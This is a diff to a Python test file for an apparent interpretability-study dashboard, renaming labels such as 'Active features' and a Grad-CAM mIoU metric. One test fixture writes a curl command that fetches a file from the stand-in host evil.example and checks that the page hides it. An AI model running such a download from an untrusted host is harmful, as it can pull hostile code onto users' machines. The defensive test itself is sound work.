@@ -84,7 +84,7 @@ def test_overview__headline_numbers_have_their_base_rates(studies, open_page):
     assert shown["Linear probe, accuracy"] == f"{100 * study.summary('probe')['top1']:.1f} %"
     assert "guessing: 25 %" in all_text(app)
     rates = inspection.feature_differences(study, study.is_val, study.is_val & ~study.is_val)["rate"]
-    assert shown["Features that fire"] == f"{(rates > 0).sum():,} of {len(rates):,}"
+    assert shown["Active features"] == f"{(rates > 0).sum():,} of {len(rates):,}"
 
 
 def test_overview__heat_on_the_object_is_that_of_masks_and_miou(seen, open_page):
@@ -93,7 +93,7 @@ def test_overview__heat_on_the_object_is_that_of_masks_and_miou(seen, open_page)
     mine = rows_where(scale, (scale["mask"] == "core") & (scale["heatmap"] == "encoder"))
     assert np.isfinite(mine["value"].iloc[0])
     shown = {metric.label: metric.value for metric in open_page(study=seen.name).metric}
-    assert shown["Heat on the object (mIoU)"] == f"{mine['value'].iloc[0]:.2f}"
+    assert shown["Grad-CAM overlap with the object (mIoU)"] == f"{mine['value'].iloc[0]:.2f}"
 
 
 def test_overview__names_the_score_that_predicts_errors_best(studies, open_page):
@@ -174,7 +174,7 @@ def test_stopped_study__names_reason_and_command(studies, open_page):
 def test_stopped_study__of_a_stranger_shows_no_command_to_paste(studies, open_page):
     write_progress(studies / "mine", state="failed", error="x", command=["curl", "evil.example", "-o", "y"])
     app = open_page(study="mine")
-    assert "Run the command that began it once more" in all_text(app)
+    assert "Run the same command to resume" in all_text(app)
     assert not any("evil.example" in code.value for code in app.code)
 
 
